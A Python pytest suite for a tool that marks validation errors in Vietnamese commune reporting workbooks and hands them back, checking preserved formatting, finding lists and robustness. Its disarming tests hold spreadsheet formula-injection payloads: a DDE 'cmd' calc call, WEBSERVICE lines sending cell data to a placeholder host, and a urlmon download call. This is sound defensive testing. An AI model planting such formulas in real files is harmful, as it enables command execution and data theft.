"""The workbook handed back: marked where it is wrong, untouched elsewhere, and never with a live formula of a text."""

from __future__ import annotations

import io
import os
import re
import shutil
import subprocess
import sys
import zipfile
from collections.abc import Callable
from datetime import UTC, date, datetime
from pathlib import Path
from typing import Any

import pytest
import xlsxwriter
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook
from openpyxl.comments import Comment

from etl.collect import reader, sheet
from etl.reference import province
from etl.sample.defects import DEFECTS
from etl.sample.month import write_month
from etl.validate import check, markup, wording
from etl.validate.finding import Finding
from etl.validate.marked import outside, result, worksheet
from etl.validate.marked.package import Package
from etl.validate.marked.styles import COLOURS
from tests.builders import OCTOBER, edited, name, workbook

RECEIVED = datetime(2025, 11, 5, 9, 5, tzinfo=UTC)
B01 = "B01-GiaiNgan"
DANGEROUS = ("=", "+", "-", "@", "\t", "\r", "\n")


def finding(
    cell: str | None, severity: str = "error", rule: str = "M08", page: str | None = B01, **more: Any
) -> Finding:
    texts = {"value": None, "expected": None, "difference": None, "message": f"Sai ở {cell}.", "fix": "Nhập lại ô này."}
    return Finding(rule, severity, page, cell, **{**texts, **more})


def judgement(*findings: Finding, verdict: str = "returned", **more: Any) -> markup.Judgement:
    return markup.Judgement(name(), "ab" * 32, verdict, RECEIVED, findings, **more)


def marked(data: bytes, *findings: Finding, **more: Any) -> bytes:
    return markup.mark(data, judgement(*findings, **more))


def parts(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert archive.testzip() is None
        return {n: archive.read(n) for n in archive.namelist()}


def open_(data: bytes) -> Workbook:
    return load_workbook(io.BytesIO(data))


def fill(book: Workbook, cell: str, page: str = B01) -> str:
    return str(book[page][cell].fill.fgColor.rgb)


def texts(data: bytes) -> list[list[str]]:
    """Texts of the result sheet, row by row, without its hidden columns."""
    page = open_(data)[markup.RESULT_SHEET]
    return [[str(c.value) for c in row[:10] if c.value is not None] for row in page.iter_rows()]


def rich() -> bytes:
    """A workbook with what a library would lose: picture, chart, text box, rich text, conditional format, outline."""
    buffer = io.BytesIO()
    book = xlsxwriter.Workbook(buffer, {"in_memory": True})
    page, hidden, secret = book.add_worksheet(B01), book.add_worksheet("Nháp"), book.add_worksheet("_meta")
    bold, yellow = book.add_format({"bold": True}), book.add_format({"bg_color": "#FFFBE6", "num_format": "#,##0.000"})
    page.write_rich_string("A1", "Xã ", bold, "Vạn Linh", " báo cáo")
    page.merge_range("A3:D4", "Gộp ô", bold)
    page.write_number("C14", 1234.5, yellow)
    page.write_number("C15", 2.5, yellow)
    page.write_formula("C16", "=SUM(C14:C15)", yellow, 1237)
    page.insert_chart("F2", _chart(book))
    page.insert_textbox("F20", "Ghi trong hình")
    page.insert_image("H2", "chu-ky.png", {"image_data": io.BytesIO(_pixel())})
    page.conditional_format("C14:C16", {"type": "cell", "criteria": ">", "value": 5, "format": bold})
    page.data_validation("C14", {"validate": "decimal", "criteria": ">=", "value": 0})
    page.write_comment("C15", "Đã hỏi Kho bạc", {"author": "Nông Thị Hoa"})
    page.set_row(20, 33, None, {"hidden": True})
    page.set_column("B:B", 41.5)
    page.autofilter("A13:D16")
    page.protect()
    page.set_header("&CBiểu 01")
    hidden.hide()
    secret.very_hidden()
    book.define_name("TongVon", f"='{B01}'!$C$16")
    book.close()
    return buffer.getvalue()


def _chart(book: Any) -> Any:
    chart = book.add_chart({"type": "column"})
    chart.add_series({"values": f"='{B01}'!$C$14:$C$16", "trendline": {"type": "linear"}})
    return chart


def _pixel() -> bytes:
    import struct
    import zlib

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    head = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(b"\0\0\0\0")) + chunk(b"IEND", b"")
    )


# What stays ----------------------------------------------------------------------------------------------------------


def test_parts_that_are_not_concerned_come_back_byte_for_byte() -> None:
    before, after = parts(rich()), parts(marked(rich(), finding("C14")))
    changed = {n for n in before if before[n] != after.get(n)}
    assert changed == {
        "[Content_Types].xml",
        "xl/workbook.xml",
        "xl/_rels/workbook.xml.rels",
        "xl/styles.xml",
        "xl/worksheets/sheet1.xml",
        "xl/comments1.xml",
        "xl/drawings/vmlDrawing1.vml",
    }


def test_in_the_marked_sheet_only_the_marked_cell_and_the_selected_tab_differ() -> None:
    before, after = (parts(d)["xl/worksheets/sheet1.xml"].decode() for d in (rich(), marked(rich(), finding("C14"))))
    cell = re.compile(r'<c r="C14" s="\d+">')
    assert cell.sub("C14", after) == cell.sub("C14", before).replace(' tabSelected="1"', "")


def test_the_official_workbook_keeps_widths_merges_validations_protection_and_hidden_sheet() -> None:
    data = workbook()
    before, after = open_(data), open_(marked(data, finding("L14"), finding("P14", "warning", "CK05")))
    assert after.sheetnames == [markup.RESULT_SHEET, *before.sheetnames]
    assert after["_meta"].sheet_state == "veryHidden"
    for page in before.sheetnames:
        old, new = before[page], after[page]
        assert {k: v.width for k, v in old.column_dimensions.items()} == {
            k: v.width for k, v in new.column_dimensions.items()
        }
        assert old.merged_cells.ranges == new.merged_cells.ranges
        assert len(old.data_validations.dataValidation) == len(new.data_validations.dataValidation)
        assert (old.print_area, old.print_title_rows) == (new.print_area, new.print_title_rows)
        assert old.protection.sheet == new.protection.sheet
        for row in old.iter_rows():
            for cell in row:
                other = new[cell.coordinate]
                assert (cell.value, cell.number_format) == (other.value, other.number_format)
                assert repr(cell.border) == repr(other.border)


def test_a_marked_cell_keeps_its_own_format_and_can_be_typed_into() -> None:
    data = workbook()
    before, after = open_(data)[B01]["D16"], open_(marked(data, finding("D16")))[B01]["D16"]
    assert after.fill.fgColor.rgb == COLOURS["error"]
    for part in ("number_format", "font", "border", "alignment"):
        assert repr(getattr(after, part)) == repr(getattr(before, part))
    assert (before.protection.locked, after.protection.locked) == (True, False)


def test_a_defined_name_of_a_sheet_follows_it_behind_the_result() -> None:
    book = open_(marked(workbook(), finding("L14")))
    assert book[B01].print_title_rows == "$8:$10"
    assert book["B05-LoTrinh"].print_area is not None


# What is said --------------------------------------------------------------------------------------------------------


def test_severity_decides_the_colour_and_several_findings_share_one_note() -> None:
    found = [
        finding("L14", "warning", "CK05", message="Tỷ lệ lệch."),
        finding("L14", "error", "CK02", value="222000000", expected="217000000", difference="5000000", unit="vnd"),
        finding("P14", "warning", "CK13"),
        finding("R14", "info", "M04"),
    ]
    book = open_(marked(workbook(), *found))
    assert [fill(book, c) for c in ("L14", "P14", "R14")] == [COLOURS[s] for s in ("error", "warning", "info")]
    note = book[B01]["L14"].comment
    assert note.author == "Tiến độ"
    for part in (
        "CK05",
        "CK02",
        "Đã ghi: 222 triệu đồng",
        "Đúng ra: 217 triệu đồng",
        "cao hơn 5 triệu đồng",
        "Cách sửa",
    ):
        assert part in note.text


def test_a_warning_that_the_note_answers_is_listed_with_the_answer() -> None:
    one = finding("L14", "warning", "CK13", explanation="Đã đề nghị điều chỉnh kế hoạch")
    sheet = open_(marked(workbook(), one))[markup.RESULT_SHEET]
    assert any("Giải trình đã ghi: “Đã đề nghị điều chỉnh kế hoạch”" in str(cell.value or "") for cell in sheet["E"])


def test_the_list_is_sorted_by_what_matters_and_leads_to_the_cells() -> None:
    found = [
        finding("P20", "warning", "CK05"),
        finding("I11", page="B02-ChiTieu"),
        finding("L22"),
        finding("A14", "info", "M04"),
        finding(None, page=None, message="Thiếu một biểu."),
        finding("L14", rule="CK02"),
    ]
    book = open_(marked(workbook(), *found, period="2025-10"))
    page = book[markup.RESULT_SHEET]
    places = [row[1].value for row in page.iter_rows() if isinstance(row[0].value, int)]
    assert places == [
        "Cả tệp", f"{B01} · ô L14", f"{B01} · ô L22", "B02-ChiTieu · ô I11", f"{B01} · ô P20", f"{B01} · ô A14",
    ]  # fmt: skip
    links = {row[1].value: row[1].hyperlink.location for row in page.iter_rows() if row[1].hyperlink}
    assert links[f"{B01} · ô L14"] == f"'{B01}'!L14"
    lines = [row[2].value for row in page.iter_rows() if isinstance(row[0].value, int)]
    assert lines[1] == "Tháng 10/2025\ndòng 14: GNBV-DA4-TDA3-SN"


def test_many_cells_with_one_error_are_one_line_that_names_them_all() -> None:
    rows = [*range(14, 24), 30, 31, 40]
    found = [finding(f"K{r}", message=f"Dòng {r} sai.") for r in rows]
    data = marked(workbook(), *found)
    lines = [row for row in texts(data) if row and row[0].isdigit()]
    assert len(lines) == 1
    assert lines[0][1] == f"{B01} · ô K14"
    assert lines[0][2] == "13 dòng cùng lỗi: ô K14:K23, K30:K31, K40"
    assert "13 dòng cùng lỗi" in lines[0][3]
    book = open_(data)
    assert all(book[B01][f"K{r}"].comment.text.count(f"Dòng {r} sai.") == 1 for r in rows)


def test_a_very_long_list_of_places_goes_on_in_the_next_rows_and_loses_none() -> None:
    found = [finding(f"K{r}") for r in range(14, 2014, 2)]
    page = texts(marked(workbook(), *found))
    listed = set(re.findall(r"K\d+", " ".join(" ".join(row) for row in page if B01 in " ".join(row))))
    assert listed == {f.cell for f in found}


def test_the_sender_reads_the_verdict_the_counts_and_how_to_send_back() -> None:
    data = marked(
        workbook(), finding("L14"), finding("P14", "warning"), period="2025-10", commune="Xã Vạn Linh", version=2,
        send_to="bao-cao@tinh.example", due_on=date(2025, 11, 7), notices=["Đã có bản của đơn vị khác."],
    )  # fmt: skip
    page = "\n".join("\n".join(row) for row in texts(data))
    for part in (
        "TRẢ LẠI ĐỂ SỬA: 1 lỗi, 1 cảnh báo.", "Xã Vạn Linh", "Lần gửi thứ 2", "05/11/2025 16:05", "ab" * 32,
        "bao-cao@tinh.example", "07/11/2025", "Đã có bản của đơn vị khác.", "Mã",
    ):  # fmt: skip
        assert part in page


def test_a_note_of_the_sender_is_kept_below_ours() -> None:
    note = open_(marked(rich(), finding("C15")))[B01]["C15"].comment
    assert note.author == "Tiến độ"
    assert note.text.index("Sai ở C15.") < note.text.index("Nông Thị Hoa") < note.text.index("Đã hỏi Kho bạc")
    assert open_(marked(rich(), finding("C14")))[B01]["C15"].comment.text == "Đã hỏi Kho bạc"


def test_blank_cells_and_rows_that_the_file_does_not_have_are_marked_in_their_place() -> None:
    found = [finding(c) for c in ("B14", "D14", "A25", "C25", "Z9", "A1", "T300")]
    book = open_(marked(rich(), *found))
    assert all(fill(book, f.cell or "") == COLOURS["error"] for f in found)
    rows = re.findall(r'<row r="(\d+)"', parts(marked(rich(), *found))["xl/worksheets/sheet1.xml"].decode())
    assert [int(r) for r in rows] == sorted(int(r) for r in rows)


def test_in_a_merged_range_the_cell_that_shows_is_marked() -> None:
    book = open_(marked(rich(), finding("C4")))
    assert fill(book, "A3") == COLOURS["error"]
    assert book[B01]["A3"].comment is not None


def test_a_refused_file_gets_the_result_alone() -> None:
    data = marked(b"%PDF-1.4", finding(None, page=None, rule="M38"), verdict="refused")
    book = open_(data)
    assert book.sheetnames == [markup.RESULT_SHEET]
    assert any("KHÔNG TIẾP NHẬN" in " ".join(row) for row in texts(data))


# Again and again -----------------------------------------------------------------------------------------------------


def resaved(data: bytes, folder: Path) -> bytes:
    """What a clerk's spreadsheet program makes of the file when it is saved."""
    (folder / "in.xlsx").write_bytes(data)
    command = ["soffice", "--headless", "--convert-to", "xlsx:Calc MS Excel 2007 XML", "--outdir", str(folder / "out")]
    subprocess.run([*command, str(folder / "in.xlsx")], check=True, capture_output=True)
    return (folder / "out" / "in.xlsx").read_bytes()


def with_library(data: bytes, _: Path) -> bytes:
    return edited(lambda _: None, data)


def as_it_is(data: bytes, _: Path) -> bytes:
    return data


SAVED = [
    as_it_is,
    with_library,
    pytest.param(resaved, marks=pytest.mark.skipif(shutil.which("soffice") is None, reason="needs LibreOffice")),
]


@pytest.mark.parametrize("save", SAVED)
def test_a_workbook_that_comes_back_loses_the_earlier_marks_first(
    save: Callable[[bytes, Path], bytes], tmp_path
) -> None:
    first = marked(rich(), finding("C14"), finding("C15"), finding("A25"))
    second = marked(save(first, tmp_path), finding("C16", "warning"))
    book = open_(second)
    assert book.sheetnames == [markup.RESULT_SHEET, B01, "Nháp", "_meta"]
    assert fill(book, "C14") == fill(open_(rich()), "C14")
    assert fill(book, "C16") == COLOURS["warning"]
    assert book[B01]["A25"].fill.fill_type is None
    assert book[B01]["C14"].comment is None
    assert book[B01]["C15"].comment.text.strip() == "Đã hỏi Kho bạc"
    assert book[B01]["C15"].comment.author == "Nông Thị Hoa"
    assert len([row for row in texts(second) if row and row[0].isdigit()]) == 1


@pytest.mark.parametrize("save", SAVED)
def test_the_reader_sees_the_same_report_in_the_workbook_handed_back(save, tmp_path) -> None:
    where = province.load()
    found = [finding("L14"), finding("D16", "warning"), finding("I11", page="B02-ChiTieu")]
    returned = save(marked(workbook(), *found), tmp_path)
    plain, again = (reader.read(name(), data, where) for data in (workbook(), returned))
    assert again.issues == plain.issues == []
    for form in plain.forms:
        assert [(r.code, r.values, r.states) for r in again.forms[form].rows] == [
            (r.code, r.values, r.states) for r in plain.forms[form].rows
        ]
    assert check.judge([again], where)[0] == ([], "accepted")


def test_marking_is_repeatable_and_does_not_grow_the_file() -> None:
    found = [finding("L14"), finding("D16", "warning")]
    once = marked(workbook(), *found)
    assert marked(workbook(), *found) == once
    twice = marked(once, *found)
    thrice = marked(twice, *found)
    assert abs(len(thrice) - len(twice)) < 100
    assert parts(thrice).keys() == parts(once).keys()
    assert texts(thrice) == texts(once)


# Nothing comes to life -----------------------------------------------------------------------------------------------


OUTSIDE = [
    "[1]Sheet1!A1",
    "'[So theo doi.xlsx]Tháng 9'!$B$2+1",
    "VLOOKUP(C13,'[1]Sổ theo dõi'!$A$1:$F$99,6,0)",
    "'C:\\Temp\\[a.xlsx]S'!A1",
    "cmd|'/c calc'!A0",
    'WEBSERVICE("http://x.example/?q="&A1)',
    'HYPERLINK("http://x.example","bấm")',
    'HYPERLINK(A1,"bấm")',
    'hyperlink("mailto:a@b.example")',
    '_xlfn.WEBSERVICE("https://x.example")',
    'IMAGE("https://x.example/a.png")',
    'RTD("prog",,"topic")',
    'CALL("urlmon","URLDownloadToFileA","JJCCJJ",0)',
    "Ngoai+1",
]
INSIDE = [
    "SUM(A1:B2)",
    f"'{B01}'!C14*2",
    'IF(A1>0,"xem [1] hoặc http://x.example","a|b")',
    'HYPERLINK("#A1","về đầu")',
    "SUM(Bang[[#This Row],[Kế hoạch]:[Giải ngân]])",
    "Bang[Kế hoạch]",
    "TongVon+1",
]


def with_formulas(*formulas: str) -> bytes:
    buffer = io.BytesIO()
    book = xlsxwriter.Workbook(buffer, {"in_memory": True})
    page = book.add_worksheet(B01)
    for row, formula in enumerate(formulas):
        page.write_formula(row, 0, "=" + formula, None, 5)
    page.write_string(0, 3, "chữ")
    book.define_name("TongVon", f"='{B01}'!$A$1")
    book.close()
    data = buffer.getvalue()
    package = Package(data)
    main = package.read("xl/workbook.xml").replace(
        b"</definedNames>", b'<definedName name="Ngoai">[1]S!$A$1</definedName></definedNames>'
        b'<externalReferences><externalReference r:id="rId99"/></externalReferences>',
    )  # fmt: skip
    package.write("xl/workbook.xml", main)
    package.add("xl/externalLinks/externalLink1.xml", b"<externalLink/>", "application/x")
    rels = package.read("xl/_rels/workbook.xml.rels").replace(
        b"</Relationships>", b'<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        b'relationships/externalLink" Target="externalLinks/externalLink1.xml"/></Relationships>',
    )  # fmt: skip
    package.write("xl/_rels/workbook.xml.rels", rels)
    return package.save()


def formulas_of(data: bytes) -> list[str]:
    return [
        str(c.value) for p in open_(data) for row in p.iter_rows() for c in row if c.data_type == "f"
    ]  # fmt: skip


def test_a_formula_that_points_out_of_the_file_comes_back_as_text() -> None:
    data = marked(with_formulas(*OUTSIDE, *INSIDE), finding("D1"))
    book = open_(data)
    assert [book[B01].cell(n, 1).value for n in range(1, len(OUTSIDE) + 1)] == [
        outside.DISARMED + "=" + f for f in OUTSIDE
    ]
    assert formulas_of(data) == ["=" + f for f in INSIDE]
    assert not [n for n in parts(data) if "externalLink" in n]
    assert b"externalReference" not in parts(data)["xl/workbook.xml"]
    assert b"[1]S" not in parts(data)["xl/workbook.xml"]


def test_a_shared_formula_that_points_outside_is_disarmed_in_all_its_cells() -> None:
    package = Package(with_formulas("1+1", "1+1"))
    page = package.read("xl/worksheets/sheet1.xml")
    page = page.replace(b"<f>1+1</f>", b'<f t="shared" ref="A1:A2" si="0">[1]S!A1</f>', 1)
    page = page.replace(b"<f>1+1</f>", b'<f t="shared" si="0"/>', 1)
    package.write("xl/worksheets/sheet1.xml", page)
    assert formulas_of(marked(package.save(), finding("D1"))) == []


SMALL = with_formulas(*INSIDE)
hostile = st.builds(
    "".join,
    st.tuples(
        st.sampled_from(["", *DANGEROUS, "=cmd|'/c calc'!A0", "@SUM(1)", "+HYPERLINK(\"http://x\")", " =1", "_x003D_1",
                         "\u200b=", "＝1", "<f>1</f>", "]]>", "&#61;", "\x00\x0b=1", "\ud7ff", "=WEBSERVICE(\"http://x\")"]),
        st.text(max_size=30),
    ),
)  # fmt: skip


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.lists(st.tuples(hostile, hostile, hostile, st.sampled_from(["L14", "K15", "A1", None])), max_size=6), hostile)
def test_no_text_becomes_a_formula_wherever_it_comes_from(
    found: list[tuple[str, str, str, str | None]], file: str
) -> None:
    findings = [
        finding(cell, value=a, expected=b, difference=c, message=a + b, fix=c, rule=f"M{n}")
        for n, (a, b, c, cell) in enumerate(found)
    ]
    told = markup.Judgement(file, "ab" * 32, "returned", RECEIVED, findings, commune=file, notices=[file])
    data = markup.mark(SMALL, told)
    assert formulas_of(data) == ["=" + f for f in INSIDE]
    page = parts(data)["xl/worksheets/sheet2.xml"]
    assert b"<f" not in page
    for row in open_(data)[markup.RESULT_SHEET].iter_rows():
        for cell in row:
            assert cell.data_type in ("n", "s", "inlineStr")
            if isinstance(cell.value, str):
                assert not cell.value.startswith(DANGEROUS)
                assert cell.number_format == "@"


@settings(max_examples=60, deadline=None)
@given(hostile)
def test_a_text_is_harmless_also_where_it_is_pasted(text: str) -> None:
    assert not wording.harmless(text).startswith(DANGEROUS)


@settings(max_examples=25, deadline=None)
@given(st.lists(st.tuples(st.integers(1, 120), st.integers(1, 30)), max_size=12, unique=True))
def test_any_cells_can_be_marked_and_unmarked(cells: list[tuple[int, int]]) -> None:
    found = [finding(f"{result.letter(c)}{r}") for r, c in cells]
    data = marked(rich(), *found)
    book = open_(data)
    shown = {worksheet.read(parts(rich())["xl/worksheets/sheet1.xml"], set()).anchor_of(f.cell or "") for f in found}
    assert all(fill(book, cell) == COLOURS["error"] for cell in shown)
    clean = open_(marked(data, verdict="accepted"))
    plain = open_(rich())
    for row in plain[B01].iter_rows():
        for cell in row:
            assert fill(clean, cell.coordinate) == fill(plain, cell.coordinate)
    assert {c.coordinate: c.comment.text for r in clean[B01].iter_rows() for c in r if c.comment} == {
        "C15": "Đã hỏi Kho bạc"
    }


def test_every_planted_defect_is_found_again_in_the_workbook_handed_back(tmp_path: Path) -> None:
    where = province.load()
    write_month(OCTOBER, tmp_path, communes=len(DEFECTS), defects=["all"])
    data = {p.name: p.read_bytes() for p in sorted(tmp_path.glob("*.xlsx"))}

    def judged(files: dict[str, bytes]) -> list[tuple[list[Finding], str]]:
        return check.judge([reader.read(n, d, where) for n, d in files.items()], where)

    before = judged(data)
    returned = {
        n: markup.mark(d, markup.Judgement(n, "ab" * 32, v, RECEIVED, f))
        for (n, d), (f, v) in zip(data.items(), before, strict=True)
        if v != "refused"
    }
    again = dict(zip(returned, judged(returned), strict=True))
    differing = {
        n: (before_, again[n])
        for n, before_ in zip(data, before, strict=True)
        if n in again and again[n] != before_ and not disarmed(returned[n])
    }
    assert differing == {}
    assert sum(disarmed(d) for d in returned.values()) <= 2


def disarmed(data: bytes) -> bool:
    return any(outside.DISARMED.encode() in part for n, part in parts(data).items() if "worksheets" in n)


# Other kinds and odd files -------------------------------------------------------------------------------------------


def test_other_kinds_of_workbook_come_back_as_xlsx_with_every_value_in_its_cell(monkeypatch) -> None:
    grids = [
        sheet.Grid(B01, True, [["UBND XÃ VẠN LINH"], [], ["Mã", "Vốn", "Ngày"], ["=1+1", 12.5, date(2025, 10, 31)]],
                   [((0, 0), (0, 2))]),
        sheet.Grid("a/b", False, [[sheet.ErrorValue("#REF!"), sheet.Uncached("[1]S!A1")]]),
    ]  # fmt: skip
    monkeypatch.setattr(sheet, "read", lambda _: grids)
    data = marked(b"\xd0\xcf\x11\xe0 an .xls", finding("B4"))
    book = open_(data)
    assert book.sheetnames == [markup.RESULT_SHEET, B01, "a_b"]
    assert (book[B01]["A4"].value, book[B01]["A4"].data_type) == ("=1+1", "s")
    assert book[B01]["B4"].value == 12.5
    assert fill(book, "B4") == COLOURS["error"]
    assert book["a_b"]["A1"].value == "#REF!"
    assert formulas_of(data) == []


def test_a_file_that_only_looks_like_a_workbook_still_gets_the_list() -> None:
    package = Package(workbook())
    package.remove("xl/styles.xml")
    for data in (b"PK\x03\x04 broken", workbook()[:9000], package.save()):
        assert markup.RESULT_SHEET in open_(marked(data, finding("L14"))).sheetnames


def test_a_package_that_cannot_be_edited_in_place_is_written_anew_and_marked() -> None:
    package = Package(with_formulas(*OUTSIDE, "1+1"))
    page = package.read("xl/worksheets/sheet1.xml").decode().replace('encoding="UTF-8"', 'encoding="UTF-16"')
    package.write("xl/worksheets/sheet1.xml", page.encode("utf-16"))
    data = marked(package.save(), finding("D1"))
    assert fill(open_(data), "D1") == COLOURS["error"]
    assert formulas_of(data) == ["=1+1"]


def test_prefixes_and_cells_without_address_are_understood() -> None:
    buffer = io.BytesIO()
    book = Workbook()
    book.active.title = B01
    book.active.append([1, 2, 3])
    book.active["B1"].comment = Comment("của tôi", "Hoa")
    book.save(buffer)
    package = Package(buffer.getvalue())
    page = package.read("xl/worksheets/sheet1.xml").decode()
    page = re.sub(r'<c r="[A-Z]+1"', "<c", page)
    page = re.sub(r"<(/?)(?=[a-zA-Z])", r"<\1x:", page).replace('xmlns="', 'xmlns:x="')
    package.write("xl/worksheets/sheet1.xml", page.encode())
    book = open_(marked(package.save(), finding("C1"), finding("B1"), finding("E1")))
    assert [fill(book, c) for c in ("B1", "C1", "E1")] == [COLOURS["error"]] * 3
    assert book[B01]["B1"].comment.text.endswith("của tôi")


def test_it_needs_neither_warehouse_nor_scheduler() -> None:
    absent = "; ".join(f"sys.modules[{m!r}] = None" for m in ("psycopg", "sqlalchemy", "alembic", "airflow", "typst"))
    code = f"import sys; {absent}; import etl.validate.markup, etl.validate.receipt"
    subprocess.run(
        [sys.executable, "-c", code], check=True, env={**os.environ, "PYTHONPATH": os.pathsep.join(sys.path)}
    )


@pytest.mark.parametrize(
    "formula",
    ["'" + "|" * 200_000 + "'", "COM.a." * 40_000, "[" * 200_000, '"' * 199_999, "'" * 199_999, "[.xl" * 60_000],
    ids=["pipes", "calls", "brackets", "quotes", "apostrophes", "names"],
)
def test_no_formula_is_too_long_to_judge(formula: str) -> None:
    assert {type(outside.points_outside(text)) for text in (formula, formula[:16_000])} == {bool}


@settings(max_examples=60, deadline=None)
@given(st.data())
def test_no_file_however_damaged_keeps_the_sender_without_an_answer(data: st.DataObject) -> None:
    package = Package(rich())
    part = data.draw(st.sampled_from(sorted(package.names())))
    content = bytearray(package.read(part))
    for _ in range(data.draw(st.integers(1, 6))):
        at = data.draw(st.integers(0, len(content) - 1))
        piece = data.draw(st.sampled_from([b"", b"<", b">", b'"', b"/>", b"</c>", b"\xff", b"<c>", b"r=", b"9" * 30]))
        content[at : at + data.draw(st.integers(0, 9))] = piece
    package.write(part, bytes(content))
    answer = marked(package.save(), finding("C14"), finding("C15"), finding("Z99"))
    assert "xl/workbook.xml" in parts(answer)
    with zipfile.ZipFile(io.BytesIO(answer)) as archive:
        assert any("KẾT QUẢ KIỂM TRA BÁO CÁO".encode() in archive.read(n) for n in archive.namelist())
